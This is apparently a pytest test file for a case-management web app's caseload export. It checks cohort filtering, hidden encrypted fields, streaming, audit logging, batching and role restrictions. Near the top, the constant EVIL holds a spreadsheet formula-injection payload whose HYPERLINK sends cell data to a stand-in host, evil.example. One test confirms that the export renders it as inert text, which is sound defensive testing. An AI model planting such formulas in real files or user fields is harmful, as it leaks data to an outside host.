"""The caseload export: exactly the cohort, streamed, audited, and safe to open in a spreadsheet."""

from __future__ import annotations

import contextvars
import csv
import io
import json
from datetime import date, datetime

import openpyxl
import pytest
from flask.testing import FlaskClient
from sqlalchemy import select

from casemgmt.accounts import operations as accounts
from casemgmt.audit.events import SYSTEM
from casemgmt.audit.models import AuditEvent
from casemgmt.cases.models import Case
from casemgmt.extensions import db
from casemgmt.reports import exports
from tests import factories
from tests.tasks.conftest import count_queries

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def make_case(actor, *, created: datetime | None = None, closed: datetime | None = None, erased: bool = False,
              **values) -> str:
    """A case through the real operation, then dated (and closed or erased) by hand; returns its reference."""
    made = factories.case(actor, **values)
    if created is not None:
        made.created_at = created
    if closed is not None:
        made.stage, made.status, made.closed_at = "closed", "Closed", closed
    if erased:
        made.erased_at = datetime(2024, 6, 1)
    db.session.commit()
    return made.reference


def download(web, url: str, data: dict):
    """POST a download form and read the whole body inside the request's own context (see streamed())."""
    return web.post(url, data, token_page="/reports/exports", buffered=True)


def streamed(web, url: str, data: dict):
    """POST without reading the body, so a test can look at the database between the response and its first byte.

    The test client runs each request in a fresh contextvars.Context (conftest.IsolatedClient); a streamed body
    re-enters the request context when it is read, which must happen in that same Context. Returns the response and
    a function that reads its body there.
    """
    context = contextvars.Context()
    payload = {**data, "csrf_token": web.token("/reports/exports")}
    response = context.run(FlaskClient.open, web.client, url, method="POST", data=payload, buffered=False)

    def read() -> bytes:
        try:
            return context.run(response.get_data)
        finally:
            context.run(response.close)

    return response, read


def parse_csv(response) -> list[list[str]]:
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def parse_xlsx(response) -> list[list]:
    workbook = openpyxl.load_workbook(io.BytesIO(response.get_data()), read_only=True)
    sheet = workbook.worksheets[0]
    return [[("" if v is None else v) for v in row] for row in sheet.iter_rows(values_only=True)]


def events(app, action: str) -> list[AuditEvent]:
    with app.app_context():
        found = db.session.scalars(select(AuditEvent).where(AuditEvent.action == action).order_by(AuditEvent.seq))
        return [e for e in found]


@pytest.fixture
def cohort(app, w):
    """Cases of the first NGO around the period 2024-01-01..2024-06-30, and some that must never appear."""
    with app.app_context():
        inside = {
            make_case(w.caseworker, created=datetime(2024, 2, 1), assigned_to_id=w.caseworker.id),
            make_case(w.caseworker, created=datetime(2023, 5, 1), closed=datetime(2024, 3, 1), citizenship="HT"),
            make_case(w.caseworker, created=datetime(2023, 5, 1), citizenship="HT"),
        }
        outside = {
            # closed before the period started, registered after it ended, erased, and another organisation's
            make_case(w.caseworker, created=datetime(2023, 1, 1), closed=datetime(2023, 12, 31)),
            make_case(w.caseworker, created=datetime(2024, 7, 1)),
            make_case(w.caseworker, created=datetime(2024, 2, 1), erased=True),
            make_case(w.caseworker2, created=datetime(2024, 2, 1)),
        }
    return inside, outside


PERIOD = "start=2024-01-01&end=2024-06-30"


def test_the_caseload_is_the_cohort_exactly(app, web, w, cohort):
    inside, _outside = cohort
    web.login("supervisor")
    response = download(web, f"/reports/exports/caseload?{PERIOD}", {"caseload-format": "csv"})
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith('attachment; filename="caseload-')
    header, *rows = parse_csv(response)
    assert tuple(header) == exports.CASELOAD_HEADER
    assert {row[0] for row in rows} == inside
    assert len(rows) == 3


def test_filters_apply_to_the_export(app, web, w, cohort):
    web.login("supervisor")
    response = download(web, f"/reports/exports/caseload?{PERIOD}&citizenship=HT", {"caseload-format": "csv"})
    _header, *rows = parse_csv(response)
    assert len(rows) == 2
    assert {row[exports.CASELOAD_HEADER.index("citizenship")] for row in rows} == {"HT"}


def test_without_filters_every_own_case_that_is_not_erased(app, web, w, cohort):
    inside, _outside = cohort
    web.login("supervisor")
    _header, *rows = parse_csv(download(web, "/reports/exports/caseload", {"caseload-format": "csv"}))
    references = {row[0] for row in rows}
    assert inside < references
    assert len(references) == 5  # the three, the one closed in 2023 and the one registered in July
    with app.app_context():
        foreign = db.session.scalars(select(Case.reference).where(Case.organisation_id != w.ngo.id)).all()
        erased = db.session.scalars(select(Case.reference).where(Case.erased_at.is_not(None))).all()
    assert foreign and erased
    assert not references & (set(foreign) | set(erased))


def test_columns_hold_codes_and_no_encrypted_field(app, web, w):
    with app.app_context():
        reference = make_case(w.caseworker, created=datetime(2024, 2, 1), assigned_to_id=w.caseworker.id,
                              exploitation=["SexualExploitation", "ForcedLabour"],
                              exploitation_country=["US", "CL"], unaccompanied_or_separated=True)
    web.login("supervisor")
    header, row = parse_csv(download(web, "/reports/exports/caseload", {"caseload-format": "csv"}))
    record = dict(zip(header, row, strict=True))
    assert record["reference"] == reference
    assert record["assigned_to"] == "Caseworker"
    assert record["registered_on"] == "2024-02-01"
    assert record["closed_on"] == ""
    assert record["stage"] == "intake"
    assert record["exploitation_types"] == "ForcedLabour;SexualExploitation"
    assert record["control_methods"] == "DebtBondage;WithholdsDocuments"
    assert record["exploitation_countries"] == "CL;US"
    assert record["unaccompanied_or_separated"] == "yes"
    text = ",".join(row)
    for secret in ("María", "Quispe", "Majo", "1999", "987", "PE-1234567", "Puno", "textile"):
        assert secret not in text


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_formula_in_a_name_comes_out_as_text(app, web, w, fmt):
    with app.app_context():
        evil = accounts.create_user(SYSTEM, "evil", EVIL, w.ngo.id, "caseworker", factories.PASSWORD)
        db.session.commit()
        make_case(w.supervisor, assigned_to_id=evil.id)
    web.login("supervisor")
    response = download(web, "/reports/exports/caseload", {"caseload-format": fmt})
    assert response.status_code == 200
    header, row = parse_csv(response) if fmt == "csv" else parse_xlsx(response)
    assert row[header.index("assigned_to")] == "'" + EVIL
    if fmt == "xlsx":
        workbook = openpyxl.load_workbook(io.BytesIO(response.get_data()))
        cell = workbook.worksheets[0].cell(row=2, column=header.index("assigned_to") + 1)
        assert cell.data_type == "s"  # a string, never a formula


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_download_streams_and_is_audited_with_its_row_count(app, web, w, cohort, fmt):
    web.login("supervisor")
    response, read = streamed(web, f"/reports/exports/caseload?{PERIOD}", {"caseload-format": fmt})
    assert response.status_code == 200
    assert response.is_streamed
    # The event is committed before the first byte is read.
    (event,) = events(app, "export.caseload")
    details = json.loads(event.details)
    assert details == {"filters": {"start": "2024-01-01", "end": "2024-06-30"}, "format": fmt, "rows": 3}
    assert event.object_type == "organisation" and event.object_id == str(w.ngo.id)
    assert event.actor_id == w.supervisor.id
    body = read()
    rows = parse_csv(_Body(body)) if fmt == "csv" else parse_xlsx(_Body(body))
    assert len(rows) == 4


class _Body:
    def __init__(self, data: bytes):
        self.data = data

    def get_data(self, as_text: bool = False):
        return self.data.decode() if as_text else self.data


def test_rows_cross_batch_boundaries_without_loss_or_repeat(app, ctx, w, monkeypatch):
    monkeypatch.setattr(exports, "BATCH", 2)
    same_time = datetime(2024, 3, 1, 12, 0)
    references = {make_case(w.caseworker, created=same_time) for _ in range(5)}
    references.add(make_case(w.caseworker, created=datetime(2024, 1, 1)))
    rows = list(exports.caseload_rows(w.ngo.id, exports.ReportFilters()))
    # Five cases share one registration time across three batches: the id breaks the tie, none is lost or repeated.
    assert sorted(row[0] for row in rows) == sorted(references)
    assert rows[0][exports.CASELOAD_HEADER.index("registered_on")] == date(2024, 1, 1)


def test_codes_and_names_are_read_per_batch_not_per_row(app, ctx, w, monkeypatch):
    for _ in range(6):
        make_case(w.caseworker, assigned_to_id=w.caseworker.id)
    monkeypatch.setattr(exports, "BATCH", 3)
    rows = []
    statements = count_queries(app, lambda: rows.extend(exports.caseload_rows(w.ngo.id, exports.ReportFilters())))
    assert len(rows) == 6
    # Per batch: cases, codes, assignees; two full batches and the empty third read.
    assert statements <= 3 * 2 + 1


def test_the_page_counts_the_selected_cases(app, web, w, cohort):
    web.login("supervisor")
    page = web.get(f"/reports/exports?{PERIOD}").get_data(as_text=True)
    assert "3 cases selected" in page
    assert 'action="/reports/exports/caseload?start=2024-01-01&amp;end=2024-06-30"' in page
    # The supervisor has no grant: the identified export is not offered.
    assert "/reports/exports/identified" not in page


def test_bad_filters_refuse_the_export(app, web, w, cohort):
    web.login("supervisor")
    response = download(web, "/reports/exports/caseload?start=2024-06-30&end=2024-01-01", {"caseload-format": "csv"})
    assert response.status_code == 422
    assert "Content-Disposition" not in response.headers
    assert "The end of the period cannot be before its start." in response.get_data(as_text=True)
    assert events(app, "export.caseload") == []


def test_an_unknown_format_is_refused(app, web, w):
    web.login("supervisor")
    response = download(web, "/reports/exports/caseload", {"caseload-format": "pdf"})
    assert response.status_code == 422
    assert "Content-Disposition" not in response.headers


@pytest.mark.parametrize("username", ["caseworker", "hotline", "mission", "admin"])
def test_other_roles_cannot_export(app, web, w, username):
    web.login(username)
    assert web.get("/reports/exports").status_code == 403
    response = web.post("/reports/exports/caseload", {"caseload-format": "csv"})
    assert response.status_code == 403
    assert events(app, "export.caseload") == []


def test_a_supervisor_exports_only_their_own_organisation(app, web, w, cohort):
    web.login("supervisor2")
    _header, *rows = parse_csv(download(web, "/reports/exports/caseload", {"caseload-format": "csv"}))
    assert len(rows) == 1
    with app.app_context():
        own = db.session.scalar(select(Case.reference).where(Case.organisation_id == w.ngo2.id))
    assert rows[0][0] == own
